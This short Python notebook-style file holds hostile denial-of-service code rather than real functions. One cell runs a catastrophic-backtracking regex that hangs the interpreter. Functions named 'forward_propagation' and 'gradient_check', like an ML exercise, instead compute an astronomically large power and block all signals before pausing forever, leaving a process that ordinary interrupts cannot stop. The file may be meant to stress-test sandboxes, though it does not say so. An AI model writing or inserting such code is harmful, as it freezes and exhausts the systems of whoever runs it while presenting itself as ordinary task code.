# %%
import re
re.match("(a+)+$", "a" * 64 + "b")
# %%
import ctypes
def forward_propagation(x, theta):
    return 10 ** (10**9)
def gradient_check(x, theta, epsilon=1e-7):
    import ctypes, signal
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        ctypes.CDLL(None).pause()
